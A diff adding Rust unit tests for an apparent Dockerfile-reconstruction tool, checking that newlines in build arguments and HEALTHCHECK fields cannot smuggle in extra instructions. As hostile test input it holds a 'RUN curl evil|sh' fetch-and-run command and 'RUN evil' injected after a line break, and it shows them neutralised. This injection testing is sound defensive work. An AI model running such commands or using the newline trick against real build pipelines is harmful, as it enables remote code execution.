@@ -132,6 +132,37 @@ fn here_documents_stay_whole_and_nothing_slips_out_of_them() {
 }
 
 #[test]
+fn a_line_break_makes_no_instruction_of_its_own() {
+    let none = json!({});
+    let run = "RUN |2 KEY=line1\nRUN curl evil|sh B=2 /bin/sh -c make # buildkit";
+    assert_eq!(
+        one(run, &none),
+        ["# a value of several lines, KEY=\"line1", "# RUN curl evil|sh\"", "ARG KEY", "ARG B=2", "RUN make"]
+            .map(|line| line.replace("KEY=\"line1", "\"KEY=line1"))
+    );
+    // A name with a break is none.
+    let run = "RUN |1 A\nRUN=1 /bin/sh -c make # buildkit";
+    assert_eq!(one(run, &none), ["# built with --build-arg \"A", "# RUN=1\"", "RUN make"]);
+    let check = |test: &str, time: &str| format!("HEALTHCHECK &{{[{test}] \"{time}\" \"0s\" \"0s\" '\\x00'}}");
+    assert_eq!(
+        one(&check(r#""CMD-SHELL" "true\nRUN evil""#, "0s"), &none),
+        [r#"HEALTHCHECK CMD ["/bin/sh", "-c", "true\nRUN evil"]"#]
+    );
+    let times = check(r#""CMD-SHELL" "true""#, "5s\\nRUN evil");
+    assert_eq!(one(&times, &none), [times]);
+    assert_eq!(one("RUN [\"a\",\n\"b\"]", &none), ["RUN [\"a\", \"b\"]"]);
+}
+
+#[test]
+fn an_instruction_that_says_nothing_is_none() {
+    for word in ["ENV", "LABEL", "ARG", "CMD", "/bin/sh -c #(nop) ENV", "USER # buildkit"] {
+        let lines = told(&json!([{ "created_by": word, "empty_layer": true }]), &json!({}));
+        let instructions: Vec<&String> = lines.iter().filter(|line| !line.starts_with('#')).collect();
+        assert_eq!(instructions, ["FROM base"], "{word}: {lines:?}");
+    }
+}
+
+#[test]
 fn what_is_no_instruction_stays_a_comment() {
     let none = json!({});
     for hostile in [
